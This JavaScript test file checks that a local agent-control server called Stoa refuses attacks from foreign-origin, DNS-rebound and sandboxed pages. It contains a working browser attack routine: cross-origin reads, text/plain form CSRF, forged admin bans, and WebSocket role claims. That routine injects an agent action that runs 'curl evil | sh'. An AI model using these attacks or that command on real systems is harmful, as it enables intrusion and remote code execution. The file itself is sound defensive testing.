// Pages that are none of the server's, in a real browser, against a server as it comes: they read, publish and do nothing.
// And pages of this machine, a development server's among them, which need no configuration.
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, test } from 'node:test';
import { io } from 'socket.io-client';
import { until } from '../js/guarded.mjs';
import { next, within } from '../js/server.mjs';
import { LIMIT, connection, launch, open } from './page.mjs';
import { publish, startStoa } from './stoa.mjs';

const CLIENT = fileURLToPath(new URL('./node_modules/socket.io-client/dist/', import.meta.url));
const VITE = new URL('../../web-demo/node_modules/vite/dist/node/index.js', import.meta.url);
const PLAN = 'the plan that is nobody else\'s business';
const SECRET = 'the-secret-of-the-browser-tests';

let browser;
let stoa;
/** Serves an empty page at any name, and socket.io-client. */
let elsewhere;
/** A producer that would do what an agent is told. */
let agent;
const told = [];

before(async () => {
  // The browser's own guards against such pages are off: it is the server that is to refuse them.
  browser = await launch({
    args: ['--host-resolver-rules=MAP evil.test 127.0.0.1,MAP rebound.test 127.0.0.1', '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'],
  });
  stoa = await startStoa({ env: { STOA_AUTHENTICATION__START_SECRET: SECRET } });
  elsewhere = createServer(async (request, response) => {
    const script = request.url === '/socket.io.js';
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html');
    response.end(script ? await readFile(`${CLIENT}socket.io.min.js`) : '<!doctype html><title>elsewhere</title>');
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  agent = io(stoa.url, { auth: { role: 'producer', rooms: ['agent:a:actions'] } });
  agent.on('agent_action', (action, answer) => {
    told.push(action);
    answer?.({ done: true });
  });
  await once(agent, 'connect');
  await publish(stoa, { type: 'agent.registered', data: { agent_id: 'a', name: PLAN } });
}, LIMIT);

after(async () => {
  agent?.close();
  elsewhere?.close();
  await browser?.close();
  await stoa?.stop();
}, LIMIT);

const at = (name) => `http://${name}:${elsewhere.address().port}/`;

/** Everything that a page can try against a server at `base`; runs in the page. Each is what came of it, as text. */
async function attack(base) {
  const results = {};
  const seen = (error) => `failed: ${error}`;
  const read = (path, options) =>
    fetch(base + path, options).then(async (response) => `${response.type} ${response.status} ${await response.text()}`).catch(seen);
  const event = (kind) => JSON.stringify({ type: `evil.${kind}`, data: {} });
  const text = { method: 'POST', headers: { 'content-type': 'text/plain' } };
  const json = { method: 'POST', headers: { 'content-type': 'application/json' } };
  const ban = JSON.stringify({ address: '127.0.0.1', include_self: true });
  for (const path of ['/api/v1/state', '/api/v1/events', '/api/v1/ws/stats', '/metrics', '/api/v1/admin/connections']) {
    results[path] = await read(path);
    results[`${path}, with cookies`] = await read(path, { credentials: 'include' });
  }
  results['a simple post'] = await read('/api/v1/events', { ...text, body: event('simple') });
  results['an opaque post'] = await read('/api/v1/events', { ...text, mode: 'no-cors', body: event('opaque') });
  results['a post as JSON'] = await read('/api/v1/events', { ...json, body: event('json') });
  results['a beacon'] = String(navigator.sendBeacon(`${base}/api/v1/events`, event('beacon')));
  results['a ban'] = await read('/api/v1/admin/bans', { ...text, body: ban });
  results['a ban as JSON'] = await read('/api/v1/admin/bans', { ...json, body: ban });
  results['the stream'] = await new Promise((resolve) => {
    const stream = new EventSource(`${base}/api/v1/stream?snapshot=true`);
    const end = (result) => { stream.close(); resolve(result); };
    stream.onerror = () => end('failed: refused');
    stream.onopen = () => end('200 open');
  });
  for (const role of ['operator', 'admin']) {
    results[`a WebSocket as ${role}`] = await new Promise((resolve) => {
      const socket = new WebSocket(`${base.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
      socket.onerror = () => resolve('failed: refused');
      socket.onclose = () => resolve('failed: closed');
      socket.onopen = () => socket.send(`40${JSON.stringify({ role, snapshot: true })}`);
      socket.onmessage = ({ data }) => {
        if (!data.startsWith('42')) return;
        socket.send(`421${JSON.stringify(['agent_action', { agent_id: 'a', action: 'run', params: { cmd: 'curl evil | sh' } }])}`);
        resolve(`open ${data}`);
      };
    });
  }
  results.polling = await read('/socket.io/?EIO=4&transport=polling');
  results['opaque polling'] = await read('/socket.io/?EIO=4&transport=polling', { mode: 'no-cors' });
  // A plain form, and things that a page shows without asking.
  // The browser says nothing of some that it refuses to show.
  const loaded = (element) => new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('failed: error');
    setTimeout(resolve, 5_000, 'failed: nothing came');
  });
  const forms = [
    ['/api/v1/events', '{"type":"evil.form","data":{"x":"', '"}}'],
    ['/api/v1/admin/bans', '{"address":"127.0.0.1","include_self":true,"reason":"', '"}'],
  ];
  for (const [path, name, value] of forms) {
    const frame = document.createElement('iframe');
    frame.name = `form${path}`;
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', enctype: 'text/plain', action: base + path, target: frame.name });
    form.append(Object.assign(document.createElement('input'), { name, value }));
    document.body.append(form);
    const answered = loaded(frame);
    form.submit();
    results[`a form to ${path}`] = await answered;
  }
  for (const tag of ['iframe', 'script', 'img']) {
    const element = document.createElement(tag);
    const shown = loaded(element);
    element.src = `${base}/api/v1/state`;
    document.body.append(element);
    results[`a ${tag}`] = await shown;
  }
  return results;
}

/** Checks that the attacking page got nothing of the server's, and the server nothing of the page's. */
async function assertUntouched(results, from, mayReadRefusals) {
  for (const [what, result] of Object.entries(results)) {
    assert.ok(!result.includes(PLAN) && !result.includes('stoa_events'), `${from}: ${what}: ${result}`);
    if (result === 'loaded' || result === 'true') continue;
    const refused = result.startsWith('failed:') || result === 'opaque 0 ' || (mayReadRefusals && / 40[013] /.test(result));
    assert.ok(refused, `${from}: ${what}: ${result}`);
  }
  const get = async (path) => (await fetch(`${stoa.url}${path}`, { headers: { authorization: `Bearer ${SECRET}` } })).json();
  const { events } = await get('/api/v1/events');
  assert.deepEqual(events.map(({ type }) => type).filter((type) => type.startsWith('evil')), [], from);
  assert.deepEqual((await get('/api/v1/admin/bans')).bans, [], from);
  const { connections } = await get('/api/v1/admin/connections');
  assert.equal(connections.length, 1, `${from}: only the agent is connected`);
  assert.deepEqual(told, [], from);
}

/** The line of a server's log that says this: it may come a moment after the server listens. */
async function said(server, what) {
  let line;
  await until(`the log says ${what}`, () => (line = server.logs.find((each) => each.includes(what))));
  return line;
}

/** A page at `url`; `close` ends it. */
async function page(url) {
  const context = await browser.newContext();
  const opened = await context.newPage();
  await opened.goto(url);
  return { context, opened, close: () => context.close() };
}

test('a page of a foreign origin reads, publishes and does nothing', LIMIT, async () => {
  const { opened, close } = await page(at('evil.test'));
  for (const name of ['localhost', '127.0.0.1']) {
    const results = await opened.evaluate(attack, `http://${name}:${stoa.port}`);
    await assertUntouched(results, `to ${name}`);
  }
  await close();
});

test('the same page against a server that allows all of it: these attacks are real', LIMIT, async () => {
  const anybodys = await startStoa({ env: { STOA_SERVER__CORS_ALLOWED_ORIGINS: '*', STOA_SERVER__HOSTS: '*' } });
  try {
    await publish(anybodys, { type: 'agent.registered', data: { agent_id: 'a', name: PLAN } });
    const { opened, close } = await page(at('evil.test'));
    const results = await opened.evaluate(attack, `http://localhost:${anybodys.port}`);
    await close();
    for (const path of ['/api/v1/state', '/api/v1/events']) assert.ok(results[path].includes(PLAN), path);
    for (const what of ['a WebSocket as operator', 'the stream', 'polling']) assert.match(results[what], /open|"sid"/, what);
    const { events } = await (await fetch(`${anybodys.url}/api/v1/events`)).json();
    const kept = new Set(events.map(({ type }) => type).filter((type) => type.startsWith('evil')));
    assert.deepEqual([...kept].sort(), ['beacon', 'form', 'json', 'opaque', 'simple'].map((kind) => `evil.${kind}`));
    // Acts that were refused above without this are refused here as well: nobody is admin by asking.
    assert.match(results['a ban as JSON'], / 401 /);
    assert.match(results['a WebSocket as admin'], /failed/);
  } finally {
    await anybodys.stop();
  }
});

test('the same with a Socket.IO client', LIMIT, async () => {
  const { opened, close } = await page(at('evil.test'));
  await opened.addScriptTag({ url: '/socket.io.js' });
  for (const transports of [['websocket'], ['polling']]) {
    const outcome = await within('an answer to CONNECT', opened.evaluate(([url, ways]) => new Promise((resolve) => {
      const socket = window.io(url, { transports: ways, reconnection: false, auth: { role: 'operator', snapshot: true } });
      socket.on('connect', () => resolve('connected'));
      socket.on('connect_error', (error) => resolve(error.message));
    }), [`http://localhost:${stoa.port}`, transports]));
    assert.match(outcome, /error/, transports[0]);
  }
  await assertUntouched({}, 'Socket.IO');
  await close();
});

test('a page whose name was pointed at the server (DNS rebinding) reads and does nothing', LIMIT, async () => {
  const context = await browser.newContext();
  const base = `http://rebound.test:${stoa.port}`;
  // The page came while the name was still the attacker's; from then on it is this server's address.
  await context.route(`${base}/before`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>before</title>' }));
  const opened = await context.newPage();
  await opened.goto(`${base}/before`);
  const results = await opened.evaluate(attack, base);
  assert.match(results['/api/v1/state'], / 403 .*\[server\] hosts/, 'it is told how a name is let in');
  await assertUntouched(results, 'rebound', true);
  await context.close();
});

test('a sandboxed frame is nobody, on a page that may connect too', LIMIT, async () => {
  const { opened, close } = await page(at('localhost'));
  await opened.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts allow-forms';
    frame.srcdoc = '<!doctype html><title>sandboxed</title><body>';
    document.body.append(frame);
    return new Promise((resolve) => { frame.onload = resolve; });
  });
  const frame = opened.frames().find((each) => each !== opened.mainFrame());
  assert.equal(await frame.evaluate(() => String(window.origin)), 'null');
  const results = await frame.evaluate(attack, `http://localhost:${stoa.port}`);
  await assertUntouched(results, 'sandboxed');
  await close();
});

/** Connects from a page with a client that is there as `window.io`, publishes, and sees the update. */
async function works(opened, url, transports) {
  const outcome = await within('its own update', opened.evaluate(([to, ways]) => new Promise((resolve, reject) => {
    const socket = window.io(to ?? undefined, { transports: ways, reconnection: false, auth: { role: 'producer', snapshot: true } });
    socket.on('connect_error', (error) => reject(new Error(error.message)));
    socket.on('agent_update', ({ data }) => {
      if (data.agent_id === 'local') { socket.close(); resolve(data.name); }
    });
    socket.once('snapshot', () => socket.emit('publish', { type: 'agent.registered', data: { agent_id: 'local', name: 'Local' } }));
  }), [url, transports]));
  assert.equal(outcome, 'Local');
}

for (const name of ['localhost', '127.0.0.1', 'app.localhost']) {
  test(`a page of this machine needs no configuration: http://${name}`, LIMIT, async () => {
    const { opened, close } = await page(at(name));
    await opened.addScriptTag({ url: '/socket.io.js' });
    const url = `http://localhost:${stoa.port}`;
    for (const transports of [['websocket'], ['polling'], ['polling', 'websocket']]) await works(opened, url, transports);
    const state = await opened.evaluate(async (to) => {
      const response = await fetch(`${to}/api/v1/state`, { headers: { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' } });
      return response.json();
    }, url);
    assert.equal(state.agents.a.name, PLAN);
    // It watches and publishes; to have an agent do something it shows that somebody of this machine means it.
    const act = (auth) => within('the answer to agent_action', opened.evaluate(([to, shown]) => new Promise((resolve, reject) => {
      const socket = window.io(to, { forceNew: true, reconnection: false, auth: shown });
      socket.on('connect_error', (error) => reject(new Error(error.message)));
      socket.emit('agent_action', { agent_id: 'a', action: 'pause' }, (answer) => { socket.close(); resolve(answer); });
    }), [url, auth]));
    assert.equal((await act({ role: 'operator' })).error.code, 'forbidden');
    assert.deepEqual(told, []);
    const asked = next(agent, 'agent_action');
    assert.equal((await act({ token: SECRET })).status, 'ok');
    await asked;
    told.length = 0;
    await close();
  });
}

test('the development server of one\'s own front-end needs no configuration, directly and by its proxy', LIMIT, async () => {
  const { createServer: createVite } = await import(VITE);
  const root = await mkdtemp(join(tmpdir(), 'stoa-front-end-'));
  await writeFile(join(root, 'index.html'), '<!doctype html><title>front-end</title><script type="module" src="/main.js"></script>');
  await writeFile(join(root, 'main.js'), 'import { io } from "socket.io-client"; window.io = io;');
  for (const xfwd of [false, true]) {
    const vite = await createVite({
      root,
      configFile: false,
      logLevel: 'error',
      resolve: { alias: { 'socket.io-client': `${CLIENT}socket.io.esm.min.js` } },
      server: {
        port: 0,
        host: '127.0.0.1',
        fs: { strict: false },
        proxy: { '/socket.io': { target: stoa.url, ws: true, xfwd }, '/api': { target: stoa.url, xfwd } },
      },
    });
    await vite.listen();
    const { port } = vite.httpServer.address();
    const { opened, close } = await page(`http://localhost:${port}/`);
    await opened.waitForFunction(() => window.io);
    await works(opened, `http://localhost:${stoa.port}`, ['websocket']);
    for (const transports of [['websocket'], ['polling']]) await works(opened, null, transports);
    const state = await opened.evaluate(() => fetch('/api/v1/state').then((response) => response.json()));
    assert.equal(state.agents.a.name, PLAN);
    await close();
    await vite.close();
  }
  await rm(root, { recursive: true });
});

test('the address that the start prints opens the page, as an admin, and does not stay in the address', LIMIT, async () => {
  const fresh = await startStoa();
  try {
    const line = await said(fresh, '?token=');
    const [, path, secret] = /http:\/\/localhost:\d+(\/\?token=([\w-]+))/.exec(line);
    const { page: opened, troubles, close } = await open(browser, `http://localhost:${fresh.port}${path}`);
    await connection(opened, 'connected');
    assert.equal(opened.url(), `http://localhost:${fresh.port}/`);
    const listed = await fetch(`${fresh.url}/api/v1/admin/connections`, { headers: { authorization: `Bearer ${secret}` } });
    assert.deepEqual((await listed.json()).connections.map(({ role }) => role), ['admin']);
    assert.deepEqual(troubles, []);
    await close();
  } finally {
    await fresh.stop();
  }
});
